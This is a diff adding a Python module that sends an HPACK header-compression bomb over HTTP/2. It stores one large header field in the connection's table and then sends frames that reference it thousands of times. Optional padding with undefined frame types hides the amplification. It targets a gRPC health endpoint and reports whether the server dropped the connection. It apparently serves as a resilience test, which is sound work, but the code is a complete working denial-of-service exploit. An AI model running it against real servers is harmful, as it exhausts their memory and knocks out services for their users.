@@ -1,0 +1,76 @@
+"""HTTP/2 headers that are small on the wire and large when decoded: one field, stored once and named many times."""
+
+import asyncio
+from contextlib import suppress
+
+PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+HEADERS, SETTINGS, ACK, END_HEADERS = 1, 4, 1, 4
+UNKNOWN = 0xFA  # a type of frames that HTTP/2 does not define: receivers ignore them
+PADDING_BYTES = 16_000
+FIELD_BYTES = 3800  # it fits into the 4 KiB that every HTTP/2 server keeps for each connection
+REFERENCES = 15_000
+STORED = b"\xbe"  # names the newest field of the connection's table
+PATH = b"/grpc.health.v1.Health/Check"
+ENDED_S = 1.0
+
+
+def frame(kind: int, flags: int, stream: int, body: bytes = b"") -> bytes:
+    return len(body).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + body
+
+
+def _text(text: bytes) -> bytes:
+    """Return a text with its length, as HPACK writes it."""
+    if len(text) < 127:
+        return bytes([len(text)]) + text
+    left, length = len(text) - 127, bytearray([127])
+    while left >= 128:
+        length.append(left & 127 | 128)
+        left >>= 7
+    return bytes([*length, left]) + text
+
+
+CALL = b"".join(
+    b"\0" + _text(name) + _text(value)
+    for name, value in (
+        (b":method", b"POST"),
+        (b":scheme", b"http"),
+        (b":path", PATH),
+        (b":authority", b"localhost"),
+        (b"content-type", b"application/grpc"),
+        (b"te", b"trailers"),
+    )
+)
+
+
+async def send_bomb(port: int, budget_bytes: int, host: str = "127.0.0.1", padding: int = 0) -> bool:
+    """Send such headers on one connection; return whether the server cut it.
+
+    `padding`: the number of frames that cost the server nothing behind each frame of headers, which hide how little
+    is sent for the memory that it takes.
+    """
+    reader, writer = await asyncio.open_connection(host, port)
+    ended = asyncio.ensure_future(_read_all(reader))
+    try:
+        store = b"\x40" + _text(b"n" * FIELD_BYTES) + _text(b"v")
+        writer.write(PREFACE + frame(SETTINGS, 0, 0) + frame(SETTINGS, ACK, 0))
+        writer.write(frame(HEADERS, END_HEADERS, 1, CALL + store))
+        body, behind = CALL + STORED * REFERENCES, frame(UNKNOWN, 0, 0, bytes(PADDING_BYTES)) * padding
+        for number in range(1, 1 + budget_bytes // (len(body) + len(behind))):
+            if ended.done():
+                break
+            writer.write(frame(HEADERS, END_HEADERS, 1 + 2 * number, body) + behind)
+            await writer.drain()
+        await asyncio.wait({ended}, timeout=ENDED_S)
+    except OSError:
+        await asyncio.wait({ended}, timeout=ENDED_S)
+    finally:
+        was_cut = ended.done()
+        ended.cancel()
+        writer.transport.abort()
+    return was_cut
+
+
+async def _read_all(reader: asyncio.StreamReader) -> None:
+    with suppress(OSError):
+        while await reader.read(65536):
+            pass
